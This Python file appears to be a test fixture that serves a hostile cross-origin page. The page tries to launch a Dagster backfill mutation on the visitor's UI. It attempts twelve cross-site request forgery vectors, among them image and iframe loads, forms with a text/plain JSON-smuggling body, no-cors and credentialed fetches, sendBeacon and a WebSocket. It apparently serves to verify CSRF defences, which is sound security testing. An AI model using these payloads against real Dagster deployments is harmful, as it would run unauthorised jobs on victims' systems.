"""A page of another origin that tries to launch a load in the Dagster UI of its visitor."""

from __future__ import annotations

import json
import threading
from collections.abc import Generator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MUTATION = (
    "mutation { launchPartitionBackfill(backfillParams: {"
    'assetSelection: [{path: ["opportunities_in_core"]}], partitionNames: ["r1-01"]'
    "}) { __typename } }"
)

_SCRIPT = """
const ui = UI, query = MUTATION;
const graphql = ui + '/graphql', byUrl = graphql + '?query=' + encodeURIComponent(query);
const body = JSON.stringify({query}), json = {'Content-Type': 'application/json'};
const over = (thing, kinds) => new Promise(
  done => kinds.forEach(kind => thing.addEventListener(kind, () => done(kind))));
const placed = element => { document.body.append(element); return element; };

function image() {
  const made = Object.assign(new Image(), {src: byUrl});
  return over(placed(made), ['load', 'error']);
}
function frame(src) {
  const made = Object.assign(document.createElement('iframe'), {src});
  return over(placed(made), ['load']);
}
function form(action, enctype, name, value) {
  const target = 'frame' + Math.random();
  const shown = placed(Object.assign(document.createElement('iframe'), {name: target}));
  const made = placed(Object.assign(
    document.createElement('form'), {action, method: 'post', enctype, target}));
  made.append(Object.assign(document.createElement('input'), {type: 'hidden', name, value}));
  made.submit();
  return over(shown, ['load']);
}
function socket() {
  const made = new WebSocket(graphql.replace('http', 'ws'), 'graphql-ws');
  made.onopen = () => {
    made.send(JSON.stringify({type: 'connection_init'}));
    made.send(JSON.stringify({type: 'start', id: '1', payload: {query, variables: {}}}));
  };
  return over(made, ['close', 'error', 'message']);
}
const post = options => fetch(graphql, {method: 'POST', body, ...options});
const tries = {
  image: image(),
  frame: frame(byUrl),
  'form with a query in its address': form(byUrl, 'application/x-www-form-urlencoded', 'a', 'b'),
  'form that looks like JSON': form(graphql, 'text/plain', body.slice(0, -1) + ',"a":"', '"}'),
  'form in parts': form(byUrl, 'multipart/form-data', 'a', 'b'),
  'get without cors': fetch(byUrl, {mode: 'no-cors'}),
  'post without cors': post({mode: 'no-cors'}),
  'post with a content type that holds two': post(
    {mode: 'no-cors', headers: {'Content-Type': 'text/plain; application/json'}}),
  'post of json': post({headers: json}),
  'post with credentials': post({headers: json, credentials: 'include'}),
  beacon: Promise.resolve(navigator.sendBeacon(byUrl, new Blob([body], {type: 'text/plain'}))),
  socket: socket(),
};
const told = Object.entries(tries).map(
  ([name, result]) => result.then(() => name + ' sent', () => name + ' stopped'));
Promise.all(told).then(all => { window.tried = all; });
"""


@contextmanager
def hostile_page(ui: str) -> Generator[str]:
    """Serve the page on a port of 127.0.0.1; `window.tried` names what it tried when it is over."""
    script = _SCRIPT.replace("UI", json.dumps(ui), 1).replace("MUTATION", json.dumps(MUTATION), 1)
    content = f"<!doctype html><body><script>{script}</script></body>".encode()

    class Handler(BaseHTTPRequestHandler):
        """Gives the page, whatever is asked for."""

        def do_GET(self) -> None:
            """Give it."""
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - its name
            """Keep quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        server.server_close()
